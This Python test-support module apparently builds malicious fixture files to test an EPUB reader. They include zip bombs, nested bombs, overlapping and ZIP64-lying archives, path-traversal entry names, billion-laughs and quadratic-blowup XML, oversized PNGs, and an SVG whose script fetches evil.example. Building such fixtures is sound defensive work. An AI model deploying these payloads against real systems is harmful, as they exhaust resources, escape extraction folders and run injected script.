"""Files built to do harm, or to be nothing like what they are called. Small on disk, all made in code.

The ZIP writer below writes whatever it is told, also where ``zipfile`` would refuse: sizes that lie, entries that share
their data, names that climb out of their folder. Field names follow PKWARE's APPNOTE 6.3.10.
"""

import struct
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from itertools import pairwise

from tests.support.epub_builder import EpubBuilder, xhtml

STORED, DEFLATED, BZIP2 = 0, 8, 12
ENCRYPTED, UTF8 = 0x1, 0x800
SYMLINK = 0o120777 << 16
MIB = 1024 * 1024


@dataclass(frozen=True)
class Entry:
    """A ZIP entry. Sizes are those of ``data`` unless said otherwise; ``shares`` is the index of the entry whose header
    and data this one points to."""

    name: bytes
    data: bytes = b"data"
    method: int = DEFLATED
    flags: int = UTF8
    attributes: int = 0
    claimed_size: int | None = None
    claimed_packed: int | None = None
    extra: bytes = b""
    shares: int | None = None


def raw_zip(entries: Iterable[Entry], *, claimed_entries: int | None = None) -> bytes:
    """A ZIP archive of ``entries``, as told and unchecked."""
    body, directory, written = bytearray(), bytearray(), list[tuple[int, bytes, int]]()
    for entry in entries:
        at, packed, crc = (
            (len(body), _packed(entry), zlib.crc32(entry.data)) if entry.shares is None else written[entry.shares]
        )
        written.append((at, packed, crc))
        size = len(entry.data) if entry.claimed_size is None else entry.claimed_size
        packed_size = len(packed) if entry.claimed_packed is None else entry.claimed_packed
        fields = (20, entry.flags, entry.method, 0, 0x21, crc, packed_size, size, len(entry.name))
        if entry.shares is None:
            body += struct.pack("<4s5H3L2H", b"PK\3\4", *fields, 0) + entry.name + packed
        directory += struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, *fields, len(entry.extra), 0, 0, 0, entry.attributes, at)
        directory += entry.name + entry.extra
    count = min(len(written) if claimed_entries is None else claimed_entries, 0xFFFF)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + end)


def _packed(entry: Entry) -> bytes:
    if entry.method != DEFLATED:
        return entry.data
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(entry.data) + packer.flush()


def zip_bomb(size: int = 64 * MIB) -> bytes:
    """One member of zeros: deflate packs them 1,028 to one."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(size // MIB)) + packer.flush()
    bomb = Entry(b"OPS/bomb.xhtml", packed, STORED)
    disguised = Entry(bomb.name, b"", STORED)
    archive = bytearray(raw_zip([Entry(b"mimetype", b"application/epub+zip", STORED), disguised]))
    return _with_packed(archive, packed, size)


def _with_packed(archive: bytearray, packed: bytes, size: int) -> bytes:
    """``archive`` with ``packed`` as the deflated data of its last entry."""
    directory = archive.index(b"PK\1\2")
    last = archive.rindex(b"PK\1\2")
    local = archive.rindex(b"PK\3\4")
    for at in (local + 8, last + 10):
        struct.pack_into("<H", archive, at, DEFLATED)
    for at in (local + 18, last + 20):
        struct.pack_into("<2L", archive, at, len(packed), size)
    struct.pack_into("<L", archive, len(archive) - 6, directory + len(packed))
    return bytes(archive[:directory]) + packed + bytes(archive[directory:])


def nested_bombs(width: int = 16) -> bytes:
    """The shape of 42.zip: archives in an archive, each a bomb of its own."""
    bomb = zip_bomb()
    return raw_zip(Entry(f"book {number}.zip".encode(), bomb) for number in range(width))


def overlapping_entries(count: int = 1000) -> bytes:
    """Many names for one piece of data: 10 MiB that would unpack to 10 GiB."""
    first = Entry(b"OPS/0.xhtml", b"a" * 10 * MIB)
    return raw_zip([first, *(Entry(f"OPS/{n}.xhtml".encode(), first.data, shares=0) for n in range(1, count))])


def half_overlapping_entries() -> bytes:
    """A second entry whose header lies inside the data of the first."""
    inner = raw_zip([Entry(b"inner.xhtml", b"inner", STORED)])
    return raw_zip([Entry(b"outer.xhtml", inner, STORED), Entry(b"inner.xhtml", b"inner", STORED, shares=0)])


def many_entries(count: int = 100_000) -> bytes:
    return raw_zip(Entry(f"{number}".encode(), b"", STORED) for number in range(count))


def zip64_lie() -> bytes:
    """An entry that says in its ZIP64 field that it unpacks to eight exbibytes."""
    field = struct.pack("<HHQ", 1, 8, 2**63 - 1)
    return raw_zip([Entry(b"OPS/big.xhtml", b"small", claimed_size=0xFFFFFFFF, extra=field)])


def hostile_names() -> Sequence[bytes]:
    """Names that point out of any folder they might be extracted to, or are no names at all."""
    return (
        b"../../outside.txt",
        b"/etc/outside.txt",
        b"C:\\outside.txt",
        b"C:/outside.txt",
        b"..\\outside.txt",
        b"OPS/../../outside.txt",
        b"OPS//outside.txt",
        b"outside.txt\0.xhtml",
        b"./outside.txt",
        b"//server/share/outside.txt",
    )


def epub_with_page(page: bytes) -> bytes:
    """An EPUB whose only page is ``page``, as it is."""
    return EpubBuilder().page("page.xhtml", page).bytes()


def page_with_entities(declarations: str, body: str) -> bytes:
    """A page with entities of its own making."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE html [{declarations}]>'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Before.</p>{body}<p>After.</p></body></html>'
    ).encode()


def billion_laughs() -> bytes:
    """Nine entities, each ten times the one before."""
    names = [f"l{depth}" for depth in range(10)]
    nested = (f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(names))
    return epub_with_page(page_with_entities(f'<!ENTITY l0 "laugh ">{"".join(nested)}', "<p>&l9;</p>"))


def quadratic_blowup() -> bytes:
    """One long entity, called many times."""
    return epub_with_page(page_with_entities(f'<!ENTITY a "{"a" * 100_000}">', f"<p>{'&a;' * 20_000}</p>"))


def deep_nesting(depth: int = 200_000) -> bytes:
    return epub_with_page(xhtml("<div>" * depth + "<p>At the bottom.</p>" + "</div>" * depth).encode())


def many_tags(count: int) -> bytes:
    return epub_with_page(xhtml("<p>Text.</p>" + "<b/>" * count).encode())


def single_line_epub(size: int) -> bytes:
    """One paragraph of ``size`` bytes that packs like ordinary text, so that nothing but its length is remarkable."""
    words = b" ".join(zlib.crc32(n.to_bytes(4, "big")).to_bytes(4, "big").hex().encode() for n in range(size // 9))
    return epub_with_page(xhtml("<p>%s</p>").encode().replace(b"%s", words))


def png(width: int, height: int, *, rows: bytes = b"") -> bytes:
    """A PNG that claims to be ``width`` by ``height``; its rows may be missing."""
    header = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data)) for kind, data in chunks
    )


def white_png(width: int, height: int) -> bytes:
    """A whole PNG, all white."""
    row = b"\0" + b"\xff" * 3 * width
    return png(width, height, rows=row * height)


SCRIPTED_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>fetch('//evil.example')</script>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>"""
